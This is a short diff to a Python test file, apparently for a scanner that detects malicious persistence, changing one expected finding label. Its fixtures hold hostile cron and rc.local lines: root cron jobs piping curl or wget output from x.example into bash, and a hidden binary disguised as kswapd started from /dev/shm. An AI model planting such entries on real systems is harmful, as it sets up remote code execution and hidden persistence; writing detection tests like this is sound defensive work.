@@ -72,13 +72,13 @@ def test_a_rig_of_ones_own_is_quiet(tmp_path: Path) -> None:
             {"/etc/cron.d/x": "* * * * * root curl -s http://x.example/a.sh | bash\n"},
             "starts by itself",
             "critical",
-            "runs what it fetches",
+            "runs what it downloads",
         ),
         (
             {"/var/spool/cron/crontabs/root": '@reboot bash -c "$(wget -qO- x.example)"\n'},
             "starts by itself",
             "critical",
-            "runs what it fetches",
+            "runs what it downloads",
         ),
         (
             {"/etc/rc.local": "#!/bin/sh\nnohup /dev/shm/.x/kswapd &\n"},
